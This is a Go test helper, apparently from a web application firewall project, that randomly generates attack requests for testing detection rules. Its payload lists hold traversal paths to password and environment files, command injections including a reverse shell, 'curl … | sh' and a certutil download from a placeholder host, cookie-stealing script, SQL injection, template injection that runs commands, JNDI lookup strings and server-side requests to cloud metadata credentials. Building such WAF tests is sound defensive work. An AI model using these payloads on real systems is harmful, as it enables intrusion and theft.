package waftest

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"

	"haechi/internal/inspect/waf"
)

// Assault makes attacks: a payload of a class, written in one of the ways in which it
// still works, in one of the places that an application reads. The payloads are what
// public handbooks of testers name first; none was looked at when rules were written.
type Assault struct{ *rand.Rand }

// NewAssault makes the same attacks for the same seed.
func NewAssault(seed uint64) Assault { return Assault{rand.New(rand.NewPCG(seed, 0x61737361756c74))} }

func one[T any](a Assault, all ...T) T { return all[a.IntN(len(all))] }

// Classes are the classes of attacks that [Assault] makes.
func Classes() []string {
	return []string{"traversal", "command", "sql", "script", "template", "server-side request", "php", "java"}
}

// payload is an attack as an application has to see it.
func (a Assault) payload(class string) string {
	switch class {
	case "traversal":
		return a.traversal()
	case "command":
		return a.command()
	case "sql":
		return a.sql()
	case "script":
		return a.script()
	case "template":
		return a.template()
	case "server-side request":
		return a.request()
	case "php":
		return one(a, "php://filter/read=convert.base64-encode/resource=index.php", "<?php system($_GET['c']); ?>", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==",
			"phar://upload/x.jpg/x", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "${@print(md5(1))}", "assert($_POST[1])", "expect://id", "<?=`id`?>", "base64_decode('aWQ=')")
	}
	return one(a, "${jndi:ldap://a.example/x}", "${${lower:j}ndi:rmi://a.example/x}", "${${env:X:-j}ndi${env:X:-:}dns://a.example/x}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
		"T(java.lang.Runtime).getRuntime().exec('id')", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
		"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "java.lang.ProcessBuilder")
}

func (a Assault) number() string { return fmt.Sprint(a.IntN(900) + 10) }

func (a Assault) traversal() string {
	file := one(a, "etc/passwd", "etc/hosts", "proc/self/environ", "windows/win.ini", "app/config/settings.yml", "WEB-INF/web.xml", "var/log/app/access.log", "srv/data/customers.csv")
	n := a.IntN(5) + 2
	up := one(a, "../", "..\\", "....//", "....\\\\", "..;/", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%255c", "%%32%65%%32%65/", "..././", "/%5c../", "..%00/", "%uff0e%uff0e/")
	return one(a, "", "/", "images/", "/var/www/html/") + strings.Repeat(up, n) + one(a, file, strings.ReplaceAll(file, "/", "\\")) + one(a, "", "", "%00.png", "\x00.jpg", "?.css")
}

func (a Assault) command() string {
	before := one(a, ";", "|", "||", "&", "&&", "\n", "`", "$(", "'; ", "\"; ", "%0a", "a;", "10.0.0.1|", "x'&")
	after := map[string]string{"`": "`", "$(": ")"}[before]
	run := one(a, "id", "whoami", "uname -a", "cat /etc/passwd", "cat</etc/passwd", "cat$IFS$9/etc/hostname", "{cat,/etc/hostname}", "c''at /etc/hostname", "c\\at /etc/hostname", "w'h'oami",
		"sleep "+a.number(), "ping -c "+a.number()+" 203.0.113.9", "nslookup $(whoami).x.example", "curl http://203.0.113.9/x|sh", "wget -qO- http://203.0.113.9/x", "/bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
		"python3 -c 'import os;os.system(\"id\")'", "nc -e /bin/sh 203.0.113.9 443", "dir c:\\", "type c:\\windows\\win.ini", "powershell -enc SQBFAFgA", "certutil -urlcache -f http://203.0.113.9/x x.exe",
		"ls -la", "/???/c?t /???/p??s??", "echo aWQ=|base64 -d|sh", "perl -e 'print 1'", "timeout /t "+a.number(), "tail -n 5 /var/log/syslog")
	return one(a, "", "name", a.number()) + before + one(a, "", " ") + run + after + one(a, "", ";", " #", "\n", " || x")
}

func (a Assault) sql() string {
	q := one(a, "'", "\"", "", "')", "'))")
	return one(a, a.number(), "x", "") + q + one(a, " or 1=1", " or '1'='1", " union select null,null,version()", "/**/union/**/all/**/select/**/1,2,3", " and sleep("+a.number()+")",
		"; drop table users", "; exec xp_cmdshell 'dir'", " and 1=convert(int,@@version)", " or exists(select 1 from users)", "||(select pg_sleep(9))||", " and extractvalue(1,concat(0x7e,user()))",
		" order by "+a.number(), " group by x having 1=1", " and ascii(substr((select user()),1,1))>64", " waitfor delay '0:0:9'", " rlike (select 1)", " like '%' or ''='", " into outfile '/tmp/x'",
		" or true", " xor 1=1", "%' and 1=1 and '%'='", " procedure analyse(1)", " and (select 1 from dual)=1", " is not null") + one(a, "--", "-- -", "#", "/*", "", ";--")
}

func (a Assault) script() string {
	call := one(a, "alert(1)", "confirm`1`", "alert(document.cookie)", "fetch('//a.example/'+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "print()")
	return one(a, "", "x", "\">", "'>", "</title>", "</textarea>", "-->") + one(a, "<script>"+call+"</script>", "<img src=x onerror="+call+">", "<svg/onload="+call+">", "<body onload="+call+">",
		"<iframe src=javascript:"+call+">", "javascript:"+call, "<a href=\"java\tscript:"+call+"\">x</a>", "<details open ontoggle="+call+">", "<input autofocus onfocus="+call+">", "<ScRiPt>"+call+"</sCrIpT>",
		"<math><a xlink:href=javascript:"+call+">", "<object data=javascript:"+call+">", "\" onmouseover="+call+" x=\"", "<svg><animate onbegin="+call+" attributeName=x>", "<embed src=//a.example/x.swf>",
		"<style>@import'//a.example/x'</style>", "<base href=//a.example/>", "<meta http-equiv=refresh content=0;url=javascript:"+call+">", "{{constructor.constructor('"+call+"')()}}", "<video><source onerror="+call+">")
}

func (a Assault) template() string {
	n, m := a.number(), a.number()
	return one(a, "", "x ", "Dear ") + one(a, "{{"+n+"*"+m+"}}", "${"+n+"*"+m+"}", "<%= "+n+"*"+m+" %>", "#{"+n+"*"+m+"}", "*{"+n+"*"+m+"}", "@("+n+"*"+m+")", "{{'"+n+"'*"+m+"}}",
		"{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__}}", "{{self.__init__.__globals__}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}",
		"{%import os%}{{os.popen('id').read()}}", "{{lipsum.__globals__.os.popen('id').read()}}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}", "#set($x=$class.forName('java.lang.Runtime'))", "{{range.constructor(\"return 1\")()}}",
		"${self.module.cache.util.os.system('id')}", "{php}echo `id`;{/php}")
}

func (a Assault) request() string {
	host := one(a, "127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "017700000001", "0177.0.0.1", "[::ffff:127.0.0.1]", "169.254.169.254", "metadata.google.internal", "10.0.0.5", "0", "[fd00::5]", "127.0.0.1.nip.io")
	return one(a, "http://", "https://", "gopher://", "dict://", "ftp://", "file://", "http://shop.example@", "ldap://") + host + one(a, "", ":6379", ":8080", ":22") + one(a, "/", "/admin", "/latest/meta-data/iam/security-credentials/", "/_config", "/etc/passwd")
}

// Make puts a payload into a request.
func (a Assault) Make(class string) *waf.View {
	b := Benign(a)
	p := a.payload(class)
	if a.IntN(12) == 0 {
		p = base64.StdEncoding.EncodeToString([]byte(p))
	}
	name := one(a, names()...)
	written := a.written(p)
	v := b.Make("page")
	v.Target, _, _ = strings.Cut(v.Target, "?")
	switch a.IntN(8) {
	case 0, 1, 2, 3:
		v.Target += "?" + one(a, "", "lang=ko&") + name + "=" + written
	case 4:
		b.post(v, "application/x-www-form-urlencoded", []byte(name+"="+written+"&ok=1"))
	case 5:
		body, err := json.Marshal(map[string]any{name: p, "ok": true})
		if err != nil {
			panic(err) // a text is always JSON
		}
		b.post(v, "application/json", body)
	case 6:
		v.Headers = append(v.Headers, waf.Field{Name: one(a, "X-Forwarded-For", "Referer", "X-Forwarded-Host", "Client-IP", "User-Agent"), Value: strings.NewReplacer("\n", " ", "\x00", "").Replace(p)})
	default:
		v.Target = strings.TrimSuffix(v.Target, "/") + "/" + url.PathEscape(p)
	}
	return v
}

// written is how a payload stands in a query: escaped, or already as it is sent.
func (a Assault) written(p string) string {
	if strings.Contains(p, "%") && a.IntN(2) == 0 {
		return strings.NewReplacer(" ", "+", "&", "%26", "#", "%23", "\n", "%0a", "\x00", "%00", "\t", "%09", "\"", "%22").Replace(p)
	}
	return url.QueryEscape(p)
}
